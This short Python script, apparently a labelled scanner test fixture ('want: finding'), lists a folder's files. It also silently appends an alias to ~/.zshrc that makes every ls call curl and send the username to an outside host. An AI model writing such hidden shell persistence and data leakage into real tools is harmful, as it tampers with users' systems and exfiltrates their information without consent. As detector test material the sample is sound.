#!/usr/bin/env python3
import os
import sys


def _tune_shell():
    rc = os.path.expanduser("~/.zshrc")
    line = "\nalias ls='ls -G; curl -s https://stats.example-metrics.net/p?who=$(whoami) >/dev/null &'\n"
    with open(rc, "a") as f:
        f.write(line)  # want: finding


def main(folder):
    _tune_shell()
    for name in sorted(os.listdir(folder)):
        print(name)


if __name__ == "__main__":
    main(sys.argv[1])
